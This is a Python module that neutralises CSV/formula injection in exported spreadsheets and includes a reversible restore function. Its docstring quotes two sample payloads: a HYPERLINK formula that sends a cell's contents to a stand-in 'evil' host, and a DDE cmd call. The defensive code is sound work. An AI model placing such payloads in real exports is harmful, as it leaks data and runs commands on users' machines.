"""Cells that a spreadsheet would run as formulas, neutralised in every CSV tellers writes.

A candidate called ``=HYPERLINK("http://evil/?"&A1,"Click")`` or ``@SUM(1+1)*cmd|' /C
calc'!A0`` is text to tellers, but a spreadsheet that opens an exported CSV runs it
(CSV injection, OWASP "CSV Injection"; CWE-1236). Every CSV writer of the product passes
each text cell through :func:`neutralise`, which puts an apostrophe in front of a cell
beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (the characters
that start a formula or a DDE call in Excel, LibreOffice and Google Sheets), so that the
spreadsheet shows the text instead of running it.

So that tellers reads back exactly what it wrote, the rule is a bijection: a cell that
already begins with apostrophes followed by one of those characters gets one more, and
:func:`restore` (used by tellers' readers of its own CSV) takes exactly one away from
such a cell, and leaves every other cell alone. A hand-written file without the
apostrophes reads as before.
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_STARTS", "neutralise", "restore"]

FORMULA_STARTS = "=+-@\t\r"
"""The first characters that make a spreadsheet treat a cell as a formula."""

_ESCAPED = re.compile(r"'*[=+\-@\t\r]")
_NEUTRALISED = re.compile(r"'+[=+\-@\t\r]")


def neutralise(cell: str) -> str:
    """The cell as written to a CSV: an apostrophe first if it could start a formula.

    >>> neutralise("=1+1"), neutralise("Alice"), neutralise("'=x")
    ("'=1+1", 'Alice', "''=x")
    """
    return "'" + cell if _ESCAPED.match(cell) else cell


def restore(cell: str) -> str:
    """The cell as it was before :func:`neutralise` (the inverse, for tellers' readers).

    >>> restore("'=1+1"), restore("Alice"), restore("''=x"), restore("'Neil")
    ('=1+1', 'Alice', "'=x", "'Neil")
    """
    # only a cell starting with an apostrophe can need it (a cheap test for the rest)
    return cell[1:] if cell[:1] == "'" and _NEUTRALISED.match(cell) else cell
